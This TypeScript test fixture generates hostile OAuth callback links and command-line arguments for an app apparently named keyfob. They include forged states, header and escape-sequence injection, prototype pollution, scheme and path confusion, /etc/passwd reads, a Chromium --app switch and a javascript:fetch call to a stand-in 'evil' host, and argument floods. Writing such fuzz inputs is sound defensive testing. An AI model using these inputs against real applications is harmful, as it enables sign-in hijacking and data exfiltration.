/** What the attacker of the table may know, or have from elsewhere. */
export interface Loot {
  /** A state and a code that were never made. */
  canary: string;
  /** The state of a sign-in with the same server that was cancelled. */
  staleState: string;
  /** The whole answer of another server to a sign-in that was cancelled. */
  otherAnswer: string;
  /** A server that listens and must never be asked. */
  evil: string;
}

type Row = [what: string, ...args: string[]];

const callback = 'keyfob://oauth/callback';

/** Links that are not the answer to the sign-in that waits, for starts in processes of their own. */
export function hostileStarts({ canary, staleState, otherAnswer, evil }: Loot): Row[] {
  const forged = `code=dal%3A${canary}&state=${canary}`;
  const link = `${callback}?${forged}`;
  return [
    ['a forged state', link],
    ['a stale state', `${callback}?code=dal%3A${canary}&state=${staleState}`],
    ['the answer of another server', otherAnswer],
    ['an error with a forged state', `${callback}?error=access_denied&state=${canary}`],
    ['an access token in the query', `${callback}?access_token=dal%3A${canary}&token_type=Bearer&state=${staleState}`],
    ['an access token in the fragment', `${callback}?state=${staleState}#access_token=dal%3A${canary}`],
    ['9 KB', `${link}&more=${'a'.repeat(9 * 1024)}`],
    ['100 KB', `${link}&more=${'a'.repeat(100 * 1024)}`],
    ['400 links', ...Array.from({ length: 400 }, (_, n) => `${link}&n=${n}`)],
    ['broken percent encoding', `${callback}?code=%zz%${canary}&state=%`],
    ['a line break', `${callback}?${forged}\nX-Injected: ${canary}`],
    ['a bell and an escape sequence', `${callback}?${forged}\u0007\u001b]52;c;${canary}\u0007`],
    ['text that runs backwards', `${callback}?${forged}\u202e${canary}`],
    ['two links', link, `${callback}?code=other&state=${canary}`],
    ['a link among options', '--flag', link, '--other=1'],
    ['a link after two dashes', '--', link],
    ['a link as an option', `--${link}`],
    ['a link as the value of an option', `--url=${link}`],
    ['another case of the scheme', `KeyFob://oauth/callback?${forged}`],
    ['no slashes', `keyfob:oauth/callback?${forged}`],
    ['the scheme alone', 'keyfob:'],
    ['a fullwidth letter in the host', `keyfob://ｏauth/callback?${forged}`],
    ['a blank before it', ` ${link}`],
    ['another verb: settings', `keyfob://settings?accountsUrl=${evil}`],
    ['a page as a file', `file:///etc/passwd?${forged}`],
    ['a name of a file', `/etc/passwd`],
    ['a name of a file that looks like a link', `./${link}`],
    ['a switch of Chromium', `--app=${evil}/?${canary}`],
  ];
}

/** More of them, of which the running app is told; the system's own limits would stop the last few. */
export function hostileArguments({ canary, staleState, evil }: Loot): Row[] {
  const forged = `code=dal%3A${canary}&state=${canary}`;
  return [
    ['a code without a state', `${callback}?code=dal%3A${canary}`],
    ['an empty state', `${callback}?code=dal%3A${canary}&state=`],
    ['a state alone', `${callback}?state=${canary}`],
    ['no parameters', `${callback}?`],
    ['no query', callback],
    ['an error without a state', `${callback}?error=access_denied&error_description=${canary}`],
    ['an error of LiveChat without a state', `${callback}?oauth_exception=invalid_request&x=${canary}`],
    ['a doubled state', `${callback}?${forged}&state=${canary}`],
    ['a doubled code', `${callback}?${forged}&code=${canary}`],
    ['an array of states', `${callback}?code=dal%3A${canary}&state[]=${canary}&state[0]=${canary}`],
    ['parameters of a prototype', `${callback}?__proto__=${canary}&constructor=${canary}&state=__proto__`],
    ['an access token in the fragment only', `${callback}#access_token=dal%3A${canary}&state=${staleState}`],
    ['the parameters in the fragment', `${callback}#${forged}`],
    ['51 parameters', `${callback}?${Array.from({ length: 51 }, (_, n) => `p${n}=${canary}`).join('&')}&${forged}`],
    ['percent encoding that is no UTF-8', `${callback}?code=%ff%fe${canary}&state=%c0%af`],
    ['an encoded NUL', `${callback}?code=dal%3A${canary}%00&state=${canary}%00`],
    ['another host', `keyfob://evil/callback?${forged}`],
    ['another path', `keyfob://oauth/callback-evil?${forged}`],
    ['a longer path', `keyfob://oauth/callback/more?${forged}`],
    ['a slash at the end', `keyfob://oauth/callback/?${forged}`],
    ['a port', `keyfob://oauth:80/callback?${forged}`],
    ['a user', `keyfob://someone:${canary}@oauth/callback?${forged}`],
    ['dot segments', `keyfob://oauth/x/../callback?${forged}`],
    ['an escaped letter in the path', `keyfob://oauth/%63allback?${forged}`],
    ['another case of the host', `keyfob://OAuth/callback?${forged}`],
    ['another case of the path', `keyfob://oauth/Callback?${forged}`],
    ['one slash', `keyfob:/oauth/callback?${forged}`],
    ['three slashes', `keyfob:///oauth/callback?${forged}`],
    ['backslashes', `keyfob:\\\\oauth\\callback?${forged}`],
    ['a longer scheme', `keyfobx://oauth/callback?${forged}`],
    ['a Cyrillic letter in the scheme', `kеyfob://oauth/callback?${forged}`],
    ['a zero-width letter', `keyfob://oauth\u200b/callback?${forged}`],
    ['another verb: copy', `keyfob://copy?id=1&x=${canary}`],
    ['another verb: import', `keyfob://import?file=/etc/passwd&from=${evil}`],
    ['another verb: unlock', `keyfob://unlock?passphrase=${canary}`],
    ['an address of its own', `${callback}?redirect_uri=${evil}&iss=${evil}&${forged}`],
    ['a web page', `${evil}/callback?${forged}`],
    ['a script', `javascript:fetch('${evil}?${canary}')`],
    ['a page of the app', `app://keyfob/index.html?${forged}`],
    ['a megabyte', `${callback}?code=dal%3A${canary}&state=${canary}&more=${'a'.repeat(1024 * 1024)}`],
    ['a megabyte of percent signs', `${callback}?${canary}${'%'.repeat(1024 * 1024)}`],
    ['a NUL', `${callback}?code=dal%3A${canary}\0&state=${staleState}\0`],
    ['half of a pair of surrogates', `${callback}?code=dal%3A${canary}\ud800&state=${canary}\udfff`],
    ['100,000 arguments', ...Array.from({ length: 100_000 }, () => `--${canary}`)],
    ['nothing at all'],
  ];
}
